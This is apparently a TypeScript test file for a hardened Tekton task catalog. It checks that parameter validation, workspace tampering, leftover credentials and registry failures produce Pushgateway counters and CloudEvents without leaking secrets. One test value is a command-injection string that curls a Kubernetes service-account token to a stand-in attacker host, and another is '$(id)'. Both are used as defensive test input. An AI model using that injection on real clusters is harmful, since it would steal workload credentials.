// Telemetry from the real step images, unpacked and run under chroot as uid
// 65532 with the env and args of the generated Task YAML, to Debian's
// prometheus-pushgateway and a CloudEvents sink on loopback: the counters a
// failing validate-params run, a workspace-guard violation, an
// inject-credentials violation and a verify-image pull error produce are read
// back from the Pushgateway's /metrics, and the sink receives one event per
// violation. Then the faults, from the real validate-params image: a sink that
// refuses, hangs or answers 500, failing open and failing closed.
import t from 'tap';
import { randomUUID } from 'node:crypto';
import { chmod, chown, mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { builtCatalog, type BuiltCatalog } from '../harness/catalog-build.ts';
import { loadCatalogTask, renderStep, type CatalogTask } from '../harness/catalog-task.ts';
import { startSink, type TestSink } from '../harness/cloudevents-sink.ts';
import { requirePushgateway, startPushgateway, type TestPushgateway } from '../harness/pushgateway.ts';
import { freePort } from '../harness/registry.ts';
import { requireRoot } from '../harness/shared.ts';
import { runEntrypoint, unpackImage, type ImageConfig } from '../harness/step-image.ts';

const STEP_UID = 65532;

interface Unpacked {
  task: CatalogTask;
  rootfs: string;
  config: ImageConfig;
}

let built: BuiltCatalog | undefined;
const images = new Map<string, Unpacked>();
let gateway: TestPushgateway | undefined;
let sink: TestSink | undefined;

async function image(program: string): Promise<Unpacked> {
  const known = images.get(program);
  if (known) return known;
  built ??= await builtCatalog();
  const task = await loadCatalogTask(built, program);
  const unpacked = await unpackImage(built.layoutDir, `step-${program}`, 'amd64');
  t.teardown(unpacked.cleanup);
  const entry = { task, rootfs: unpacked.rootfs, config: unpacked.config };
  images.set(program, entry);
  return entry;
}

/** The TaskRun's context as Tekton substitutes it; a fresh uid per run. */
const context = (task: string, taskRun: string) => ({ 'task.name': task, 'taskRun.name': taskRun, 'taskRun.namespace': 'team-a', 'taskRun.uid': randomUUID(), 'task.retry-count': '0' });

async function runTask(program: string, params: Record<string, string | string[]>, options: { workspaces?: Record<string, string>; task: string; taskRun: string }) {
  const { task, rootfs, config } = await image(program);
  const ctx = context(options.task, options.taskRun);
  const { args, env } = renderStep(task.spec.steps[0]!, { params: { ...task.defaults, ...params }, workspaces: options.workspaces ?? {}, context: ctx });
  const results = join(rootfs, 'tekton', 'results');
  await rm(results, { recursive: true, force: true });
  await mkdir(results, { recursive: true });
  await chown(results, STEP_UID, STEP_UID);
  const outcome = await runEntrypoint(rootfs, config, { args, env: { ...env, TEKTON_RESULTS_DIR: '/tekton/results' }, timeoutMs: 90_000 });
  return { ...outcome, uid: ctx['taskRun.uid'] };
}

t.before(async () => {
  if (process.getuid?.() !== 0 || !requirePushgateway({ fail: () => {}, skip: () => {} })) return;
  gateway = await startPushgateway();
  sink = await startSink('accept');
});
t.teardown(async () => {
  await gateway?.stop();
  await sink?.stop();
});

const sinks = () => ({ 'pushgateway-url': gateway!.url, 'cloudevents-sink': sink!.url });
const eventsOf = (uid: string) => sink!.received.map((r) => JSON.parse(r.body) as { type: string; subject: string; source: string; data: Record<string, unknown> & { taskRun: { uid: string } } }).filter((e) => e.data.taskRun.uid === uid);

t.test('validate-params: a failing run pushes its counters and sends one event per rejected value', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image') || !requirePushgateway(t)) return;
  const rules = JSON.stringify({ tag: { type: 'image-tag' }, replicas: { type: 'integer', min: 1, max: 10 }, 'git-revision': { type: 'git-sha' } });
  const attack = '--build-arg FOO=bar; curl attacker.example -d $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)';
  const out = await runTask('validate-params', { ...sinks(), rules, values: [`tag=${attack}`, 'replicas=11', `git-revision=${'a'.repeat(40)}`] }, { task: 'validate', taskRun: 'build-x7k2p-validate' });
  t.equal(out.code, 1, out.stderr);
  t.match(out.stderr, /^validate-params: telemetry: Pushgateway "http:\/\/127\.0\.0\.1:\d+\/": pushed 2 sample\(s\); CloudEvents sink "http:\/\/127\.0\.0\.1:\d+\/events": sent 2 event\(s\)$/m);
  const samples = (await gateway!.samples('tekton_param_validation_failures_total')).filter((s) => s.labels.taskrun_uid === out.uid);
  t.same(
    samples.map((s) => [s.labels.task, s.labels.param, s.value]).sort(),
    [
      ['validate', 'replicas', 1],
      ['validate', 'tag', 1],
    ],
  );
  t.match(samples[0]!.labels, { job: 'tekton-catalog', namespace: 'team-a', taskrun: 'build-x7k2p-validate', retry: '0', step: 'validate-params' });
  const events = eventsOf(out.uid);
  t.equal(events.length, 2, 'one event per rejected value');
  t.same(events.map((e) => e.subject).sort(), ['replicas', 'tag']);
  for (const event of events) {
    t.equal(event.type, 'dev.hardened-tekton.param.validation.failed.v1');
    t.equal(event.source, '/apis/tekton.dev/v1/namespaces/team-a/taskruns/build-x7k2p-validate');
  }
  t.notOk(sink!.received.some((r) => r.body.includes(attack)), 'the attack string is never sent raw');
});

t.test('workspace-guard: a tampered workspace pushes its violations and sends an event per finding', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image') || !requirePushgateway(t)) return;
  const { rootfs } = await image('workspace-guard');
  const source = join(rootfs, 'workspace', 'source');
  const state = join(rootfs, 'workspace', 'state');
  for (const dir of [join(source, 'src'), state]) await mkdir(dir, { recursive: true });
  await writeFile(join(source, 'src', 'main.ts'), 'export const trusted = true;\n');
  for (const path of [source, join(source, 'src'), join(source, 'src', 'main.ts'), state]) await chown(path, STEP_UID, STEP_UID);
  const workspaces = { target: '/workspace/source', manifest: '/workspace/state', report: '' };
  const runUid = '0b7f9c2e-1d2a-4c3b-9e8f-7a6b5c4d3e2f';
  const seal = await runTask('workspace-guard', { ...sinks(), mode: 'seal', 'run-uid': runUid }, { workspaces, task: 'seal', taskRun: 'build-x7k2p-seal' });
  t.equal(seal.code, 0, seal.stderr);
  t.notMatch(seal.stderr, /telemetry/, 'a clean run that fails open sends nothing');
  const digest = (/manifest (sha256:[0-9a-f]{64})/.exec(seal.stderr) ?? [])[1]!;

  await writeFile(join(source, 'src', 'main.ts'), 'export const trusted = false;\n');
  await writeFile(join(source, 'src', 'payload.sh'), '#!/bin/sh\n');
  await chmod(join(source, 'src', 'payload.sh'), 0o777);
  const verify = await runTask('workspace-guard', { ...sinks(), mode: 'verify', 'run-uid': runUid, 'expected-digest': digest, 'workspace-label': 'source' }, { workspaces, task: 'verify-source', taskRun: 'build-x7k2p-verify' });
  t.equal(verify.code, 1, verify.stderr);
  const samples = (await gateway!.samples('tekton_workspace_access_violations_total')).filter((s) => s.labels.taskrun_uid === verify.uid);
  t.equal(samples.length, 1);
  t.match(samples[0], { labels: { task: 'verify-source', workspace: 'source', step: 'workspace-guard' } });
  const violations = Number((/verify: (\d+) violation\(s\)/.exec(verify.stderr) ?? [])[1]);
  t.ok(violations >= 2, `${violations} violations`);
  t.equal(samples[0]!.value, violations, 'the pushed count is the run\'s count');
  const events = eventsOf(verify.uid);
  t.equal(events.length, violations, 'one event per finding');
  t.ok(events.every((e) => e.type === 'dev.hardened-tekton.workspace.access.violated.v1' && e.subject === 'source'));
  t.ok(events.some((e) => e.data.rule === 'modified' && e.data.path === 'src/main.ts'), 'the modified file is named');
});

t.test('inject-credentials: a violation is counted and sent, and no secret reaches the sink', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image') || !requirePushgateway(t)) return;
  const { rootfs } = await image('inject-credentials');
  const secretDir = join(rootfs, 'workspace', 'secret');
  const credentials = join(rootfs, 'workspace', 'credentials');
  await mkdir(secretDir, { recursive: true });
  const token = `ghp_${randomUUID().replace(/-/g, '')}`;
  await writeFile(join(secretDir, '.dockerconfigjson'), JSON.stringify({ auths: { 'ghcr.io': { auth: Buffer.from(`bot:${token}`).toString('base64') } } }), { mode: 0o644 });
  await mkdir(credentials, { recursive: true });
  await writeFile(join(credentials, 'left-over'), `${token}\n`);
  for (const path of [credentials, join(credentials, 'left-over')]) await chown(path, STEP_UID, STEP_UID);
  const out = await runTask(
    'inject-credentials',
    { ...sinks(), 'secret-name': 'registry-push-creds', 'secret-type': 'kubernetes.io/dockerconfigjson', 'allowed-hosts': ['ghcr.io'] },
    { workspaces: { secret: '/workspace/secret', credentials: '/workspace/credentials' }, task: 'inject', taskRun: 'build-x7k2p-inject' },
  );
  t.equal(out.code, 1, out.stderr);
  const samples = (await gateway!.samples('tekton_workspace_access_violations_total')).filter((s) => s.labels.taskrun_uid === out.uid);
  t.match(samples, [{ labels: { task: 'inject-credentials', workspace: 'credentials', step: 'inject-credentials' }, value: 1 }]);
  const events = eventsOf(out.uid);
  t.equal(events.length, 1);
  t.match(events[0], { type: 'dev.hardened-tekton.workspace.access.violated.v1', subject: 'credentials', data: { code: 'CREDENTIALS_WORKSPACE_NOT_EMPTY', mode: 'inject' } });
  t.notOk(sink!.received.some((r) => r.body.includes(token)), 'the secret is never sent');
});

t.test('verify-image: a registry that cannot be reached counts as an image pull error', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image') || !requirePushgateway(t)) return;
  const host = `127.0.0.1:${await freePort()}`;
  const reference = `${host}/team/app:v1`;
  const out = await runTask(
    'verify-image',
    {
      ...sinks(),
      images: [reference],
      'certificate-identity': 'https://github.com/org/repo/.github/workflows/release.yml@refs/heads/main',
      'certificate-oidc-issuer': 'https://token.actions.githubusercontent.com',
      'plain-http-registries': host,
    },
    { workspaces: { 'trusted-root': '', 'public-key': '', 'docker-config': '', report: '' }, task: 'verify-base', taskRun: 'build-x7k2p-verify-base' },
  );
  t.equal(out.code, 1, out.stderr);
  t.match(out.stderr, /REJECTED .*\[REGISTRY_UNREACHABLE\]/);
  const samples = (await gateway!.samples('tekton_taskrun_image_pull_errors_total')).filter((s) => s.labels.taskrun_uid === out.uid);
  t.match(samples, [{ labels: { task: 'verify-base', image: reference, step: 'verify-image' }, value: 1 }]);
  t.equal((await gateway!.samples('tekton_image_verifications_total')).length, 0, 'the catalog\'s own counters stay in the log');
  t.match(eventsOf(out.uid), [{ type: 'dev.hardened-tekton.image.verification.rejected.v1', subject: reference, data: { code: 'REGISTRY_UNREACHABLE', pullError: true } }]);
});

t.test('validate-params image with a sink that refuses, hangs or answers 500: fail open, fail closed', async (t) => {
  if (!requireRoot(t, 'chroot into the unpacked image')) return;
  const rules = JSON.stringify({ tag: { type: 'image-tag' } });
  for (const fault of ['refuse', 'hang', 'fail'] as const) {
    const faulty = fault === 'refuse' ? { url: `http://127.0.0.1:${await freePort()}/`, stop: async () => {} } : await startSink(fault);
    const reason = { refuse: /connection refused/, hang: /no answer within 2 s/, fail: /HTTP 500/ }[fault];
    const params = { 'pushgateway-url': faulty.url, 'cloudevents-sink': faulty.url, rules };
    for (const failClosed of ['false', 'true']) {
      const bad = await runTask('validate-params', { ...params, 'telemetry-fail-closed': failClosed, values: ['tag=$(id)'] }, { task: 'validate', taskRun: 'build-faults-validate' });
      const good = await runTask('validate-params', { ...params, 'telemetry-fail-closed': failClosed, values: ['tag=v1.2.3'] }, { task: 'validate', taskRun: 'build-faults-validate' });
      const lines = bad.stderr.split('\n').filter((line) => /telemetry/.test(line));
      if (failClosed === 'false') {
        t.equal(bad.code, 1, `${fault}, open: the verdict stands (exit 1)`);
        t.equal(lines.length, 1, `${fault}, open: one line`);
        t.match(lines[0], /^validate-params: telemetry not delivered, the step goes on/);
        t.match(lines[0], reason);
        t.equal(good.code, 0, `${fault}, open: a clean run sends nothing and passes`);
        t.notMatch(good.stderr, /telemetry/);
      } else {
        t.equal(bad.code, 3, `${fault}, closed: the step fails (exit 3)`);
        t.match(bad.stderr, /^validate-params: error \[TELEMETRY_UNDELIVERED\]: telemetry not delivered, and telemetry-fail-closed is "true"/m);
        t.match(bad.stderr, reason);
        t.match(bad.stderr, /rejected 1 param value/, 'the verdict is still in the log');
        t.equal(good.code, 3, `${fault}, closed: a clean run fails too: it must reach the Pushgateway`);
        t.match(good.stderr, /\[TELEMETRY_UNDELIVERED\]/);
      }
    }
    await faulty.stop();
  }
});
